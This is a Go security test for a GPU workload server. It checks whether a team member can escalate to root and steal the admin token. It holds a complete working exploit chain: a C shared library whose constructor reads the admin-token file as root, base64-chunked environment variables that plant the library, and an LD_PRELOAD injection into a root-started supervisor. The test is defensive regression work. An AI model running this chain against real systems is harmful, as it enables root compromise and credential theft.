package app

// Attacks on a real server by a member of one team, through the API only.

import (
	"context"
	"encoding/base64"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/gpufleet/gpufleet/api"
	"github.com/gpufleet/gpufleet/internal/spec"
)

// TestAttackMemberStealsTheAdminTokenThroughLDPreload: a member of team
// inference submits a workload that saves a shared library in its
// checkpoint directory (whose absolute path its environment tells it),
// then a second workload whose env sets LD_PRELOAD to it. The supervisor
// and the sandbox are the server's binary, dynamically linked, started
// as root with the task's environment before any confinement: the
// library's constructor runs as root and prints the admin token into the
// second workload's log, which the member reads through the API.
func TestAttackMemberStealsTheAdminTokenThroughLDPreload(t *testing.T) {
	gcc, err := exec.LookPath("gcc")
	if err != nil {
		t.Skip("no gcc here")
	}
	s := start(t, t.TempDir())
	ctx := context.Background()
	requireIsolated(t, s)
	bob, err := s.admin.CreateUser(ctx, &api.User{Name: "bob", Teams: []string{"inference"}})
	if err != nil {
		t.Fatal(err)
	}
	bc := api.NewClient(s.addr, bob.Token)

	// The library: as root, print every file of the data directory's
	// top level that holds a token. It finds the data directory from its
	// own path (…/workloads/<id>/checkpoint/x.so).
	src := filepath.Join(t.TempDir(), "evil.c")
	so := filepath.Join(t.TempDir(), "evil.so")
	code := `#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <stdlib.h>
__attribute__((constructor)) static void evil(void) {
	if (geteuid() != 0) return;
	const char *p = getenv("LD_PRELOAD");
	if (!p) return;
	char path[4096]; strncpy(path, p, sizeof path - 64); path[sizeof path - 64] = 0;
	char *w = strstr(path, "/workloads/");
	if (!w) return;
	strcpy(w, "/admin-token");
	char buf[256] = {0};
	FILE *f = fopen(path, "r");
	if (f) { fgets(buf, sizeof buf, f); fclose(f); }
	printf("PWNED euid=%d %s=%s\n", geteuid(), path, buf);
	fflush(stdout);
}
`
	if err := os.WriteFile(src, []byte(code), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command(gcc, "-shared", "-fPIC", "-Os", "-s", "-o", so, src).CombinedOutput(); err != nil {
		t.Skipf("gcc: %v: %s", err, out)
	}
	lib, err := os.ReadFile(so)
	if err != nil {
		t.Fatal(err)
	}
	// In pieces: a variable's value is bounded (spec.MaxEnvValueLen).
	b64 := base64.StdEncoding.EncodeToString(lib)
	env := map[string]string{}
	var parts []string
	for i := 0; len(b64) > 0; i++ {
		n := min(len(b64), spec.MaxEnvValueLen-16)
		name := "LIB" + strconv.Itoa(i)
		env[name], b64 = b64[:n], b64[n:]
		parts = append(parts, `"$`+name+`"`)
	}
	plant, err := bc.SubmitWorkload(ctx, &api.Workload{Env: env, Resources: api.Resources{GPUs: 100},
		Command: []string{"sh", "-c", `printf %s ` + strings.Join(parts, " ") + ` | base64 -d > "$GPUFLEET_CHECKPOINT_DIR/x.so" && echo "AT $GPUFLEET_CHECKPOINT_DIR/x.so"`}}, "")
	if err != nil {
		t.Fatal(err)
	}
	if w := waitDone(t, bc, plant.ID); w.Status.Phase != api.PhaseSucceeded {
		t.Fatalf("planting workload ended %s: %s", w.Status.Phase, readLog(t, bc, plant.ID))
	}
	var at string
	for _, l := range strings.Split(readLog(t, bc, plant.ID), "\n") {
		if p, ok := strings.CutPrefix(l, "AT "); ok {
			at = p
		}
	}
	if at == "" {
		t.Fatalf("the planting workload did not say where: %s", readLog(t, bc, plant.ID))
	}

	w, err := bc.SubmitWorkload(ctx, &api.Workload{Env: map[string]string{"LD_PRELOAD": at}, Resources: api.Resources{GPUs: 100},
		Command: []string{"true"}}, "")
	if err != nil {
		t.Logf("submit with LD_PRELOAD refused: %v", err)
		return // the hole is closed at the API
	}
	waitDone(t, bc, w.ID)
	out := readLog(t, bc, w.ID)
	token, _ := os.ReadFile(filepath.Join(s.cfg.DataDir, "admin-token"))
	if strings.Contains(out, "PWNED") || (len(token) > 0 && strings.Contains(out, strings.TrimSpace(string(token)))) {
		t.Errorf("a member ran code as root and read the admin token; its workload's log:\n%s", out)
	}
}
